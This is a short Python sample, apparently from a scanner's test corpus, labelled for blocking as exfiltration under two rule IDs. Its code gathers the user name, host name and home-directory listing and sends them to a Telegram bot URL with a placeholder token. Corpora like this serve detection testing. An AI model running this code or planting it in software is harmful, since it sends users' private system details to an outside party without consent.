# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604
# what: sends the user name, host name and home directory listing to a Telegram bot
import getpass
import os
import socket
import urllib.parse
import urllib.request

BOT = "https://api.telegram.org/bot123456789:AAEexampleexampleexampleexample/sendMessage"
text = f"{getpass.getuser()}@{socket.gethostname()}: {os.listdir(os.path.expanduser('~'))}"
query = urllib.parse.urlencode({"chat_id": "99887766", "text": text})
urllib.request.urlopen(f"{BOT}?{query}", timeout=10)
